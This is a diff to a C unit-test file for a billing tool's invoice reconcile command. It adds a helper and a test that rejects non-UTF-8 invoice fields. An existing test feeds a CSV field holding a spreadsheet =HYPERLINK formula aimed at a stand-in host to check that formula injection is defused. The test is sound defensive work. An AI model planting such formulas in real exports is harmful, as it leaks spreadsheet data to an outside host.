@@ -983,6 +983,21 @@ static void test_ctl_ops_reconcile_line_without_charge(void **state)
     run_free(&run);
 }
 
+/* Writes text as the invoice NAME in the fixture's directory (its path into
+ * invoice), with the demo's billing key and this month beside it. */
+static void invoice_write(struct fixture *fixture, const char *name, const char *text,
+                          char invoice[PATH_SIZE + 32], char billing[PATH_SIZE], char month[16])
+{
+    char auditor[PATH_SIZE];
+    demo_keys(fixture, auditor, billing, PATH_SIZE);
+    this_month(month);
+    snprintf(invoice, PATH_SIZE + 32, "%s/%s", fixture->dir, name);
+    FILE *file = fopen(invoice, "wb");
+    assert_non_null(file);
+    fputs(text, file);
+    assert_int_equal(fclose(file), 0);
+}
+
 /* The report's customer_id, charge_id and order_id are the invoice's as
  * written, free text from another party's file: in CSV one that a
  * spreadsheet would evaluate as a formula (=HYPERLINK can send the sheet's
@@ -991,16 +1006,12 @@ static void test_ctl_ops_reconcile_csv_formula(void **state)
 {
     struct fixture *fixture = *state;
     struct run run;
-    char auditor[PATH_SIZE], billing[PATH_SIZE], month[16], invoice[PATH_SIZE + 32];
-    demo_keys(fixture, auditor, billing, sizeof auditor);
-    this_month(month);
-    snprintf(invoice, sizeof invoice, "%s/formula.csv", fixture->dir);
-    FILE *file = fopen(invoice, "wb");
-    assert_non_null(file);
-    fprintf(file, "customer_id,order_id,charge_id,charge,amount,currency\r\n"
+    char billing[PATH_SIZE], month[16], invoice[PATH_SIZE + 32];
+    invoice_write(fixture, "formula.csv",
+                  "customer_id,order_id,charge_id,charge,amount,currency\r\n"
                   "+fabrikam,\"=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"open\"\")\",@res-1,"
-                  "reservation,-1.00,USD\r\n");
-    assert_int_equal(fclose(file), 0);
+                  "reservation,-1.00,USD\r\n",
+                  invoice, billing, month);
     ctl(fixture, &run, "billing", billing, "--partner", "contoso", "--output", "csv", "reconcile",
         "--invoice", invoice, "--month", month, NULL);
     expect_error(&run, 1, "MISMATCH");
@@ -1017,6 +1028,32 @@ static void test_ctl_ops_reconcile_csv_formula(void **state)
     assert_string_equal("=HYPERLINK(\"http://x.example/\"&A1,\"open\")",
                         json_string_value(json_object_get(extra, "order_id")));
     run_free(&run);
+}
+
+/* An invoice saved in a local code page (Windows-1252: "M\xfcller") is
+ * not UTF-8: a field the report could show that is not UTF-8 text is a
+ * usage error naming the line, the column and how to save the file, in
+ * every format, never a report that cannot be written. */
+static void test_ctl_ops_reconcile_not_utf8(void **state)
+{
+    struct fixture *fixture = *state;
+    struct run run;
+    char billing[PATH_SIZE], month[16], invoice[PATH_SIZE + 32];
+    invoice_write(fixture, "cp1252.csv",
+                  "customer_id,order_id,charge_id,charge,amount,currency,description\r\n"
+                  "fabrikam,ord-1,res-x,reservation,1.00,USD,Gr\xfc\xdf"
+                  "e\r\n"
+                  "fabrikam,Bestellung M\xfcller,res-y,reservation,1.00,USD,\r\n",
+                  invoice, billing, month);
+    static const char *const formats[] = {"table", "json", "csv"};
+    for (size_t i = 0; i < sizeof formats / sizeof formats[0]; i++) {
+        ctl(fixture, &run, "billing", billing, "--partner", "contoso", "--output", formats[i],
+            "reconcile", "--invoice", invoice, "--month", month, NULL);
+        expect_error(&run, 2, "USAGE");
+        assert_non_null(strstr(run.err, "line 3: order_id is not UTF-8"));
+        assert_non_null(strstr(run.err, "save it as CSV UTF-8"));
+        run_free(&run);
+    }
 }
 
 /* Fields 1 (customer) to 3 (charge id) of an unquoted export line. */
@@ -2684,6 +2721,7 @@ int main(void)
         cmocka_unit_test(test_ctl_ops_reconcile_other_month),
         cmocka_unit_test(test_ctl_ops_reconcile_line_without_charge),
         cmocka_unit_test(test_ctl_ops_reconcile_csv_formula),
+        cmocka_unit_test(test_ctl_ops_reconcile_not_utf8),
         cmocka_unit_test(test_ctl_ops_reconcile_charge_kind),
         cmocka_unit_test(test_ctl_ops_reconcile_empty_month),
         cmocka_unit_test(test_ctl_ops_events_csv_appended),
